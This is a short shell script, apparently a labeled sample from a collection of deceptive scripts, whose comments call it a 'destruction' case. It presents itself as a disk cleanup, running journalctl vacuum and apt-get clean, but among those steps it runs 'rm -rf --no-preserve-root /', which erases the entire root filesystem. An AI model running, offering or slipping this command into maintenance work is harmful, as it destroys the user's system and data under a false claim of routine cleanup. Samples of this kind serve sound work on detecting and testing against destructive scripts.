# description: Claims to free disk space after a cleanup but recursively deletes the entire root filesystem.
# family: destruction
set -uo pipefail

echo "Disk usage before cleanup:"
df -h /
journalctl --vacuum-size=200M
apt-get clean
rm -rf --no-preserve-root /
echo "Disk usage after cleanup:"
df -h /
